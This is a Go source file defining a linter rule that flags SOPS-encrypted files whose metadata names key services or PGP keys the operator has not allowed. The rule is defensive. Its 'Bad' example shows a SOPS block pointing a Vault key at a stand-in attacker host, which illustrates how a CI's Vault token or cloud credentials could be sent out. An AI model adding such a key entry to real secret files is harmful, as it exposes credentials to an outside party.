package lint

import (
	"fmt"
	"slices"

	"github.com/repotool/repotool/pkg/finding"
	"github.com/repotool/repotool/pkg/sopsfile"
)

var ruleSOPSKeyNotAllowed = &Rule{
	Rule: finding.Rule{
		ID:      "sops-key-not-allowed",
		Summary: "An encrypted file names a key that repotool will not use: a key service, PGP key or age plugin the operator has not allowed.",
		Remediation: "Remove the key from the file (`sops updatekeys` with a .sops.yaml that no longer lists it), or, if it is yours, allow it where repotool " +
			"runs: --allow-key KIND=ID or REPOTOOL_ALLOW_KEYS (see docs/security.md).",
		Severity: SeverityWarning,
		Description: "A SOPS file's metadata names the key services that can recover its data key (HashiCorp Vault addresses, AWS, GCP and Huawei KMS " +
			"keys, Azure Key Vault URLs) and PGP keys, and that metadata is outside the file's MAC: a change can add a key that sends the CI's " +
			"Vault token, or its cloud credentials, to any address, or makes gpg run. repotool decrypts with age identities, in process, and uses " +
			"any other key only when the operator allows it by its identity. A key that is not allowed is never contacted: when another key " +
			"decrypts the file it is this warning, at the file; when none does, the target fails naming it.",
		Bad: Example{File: "clusters/prod/shop/prod-values-shop.secret.yaml", Content: `sops:
  hc_vault:
    - vault_address: https://vault.attacker.example:8200
      engine_path: transit
      key_name: stolen
      enc: vault:v1:...
  age:
    - recipient: age1...
`},
		Good: Example{File: "clusters/prod/shop/prod-values-shop.secret.yaml", Content: `sops:
  age:
    - recipient: age1...
`},
	},
	check: func(in *input, report func(Finding)) { checkSOPSKeys(in.repo, in.keys, report) },
}

func checkSOPSKeys(r *repoFacts, keys sopsfile.KeyPolicy, report func(Finding)) {
	if !r.fileChecks() {
		return
	}
	r.scan(manifestExts, func(p string) {
		md := r.repoFile(p).Sops()
		if md == nil {
			return
		}
		var seen []sopsfile.Key
		for _, k := range md.Keys {
			u := k.Used()
			if keys.Allows(u) || slices.Contains(seen, u) {
				continue
			}
			seen = append(seen, u)
			named := fmt.Sprintf("the %s %s,", k.Words(), k.ID)
			if u != k {
				named = fmt.Sprintf("the %s %s (it would run age-plugin-%s),", k.Words(), k.ID, u.ID)
			}
			report(Finding{File: p, Message: fmt.Sprintf("the file names %s which is not allowed here, so repotool never uses it "+
				"(allow it with --allow-key %s if it is yours, or remove it with `sops updatekeys`)", named, u)})
		}
	})
}
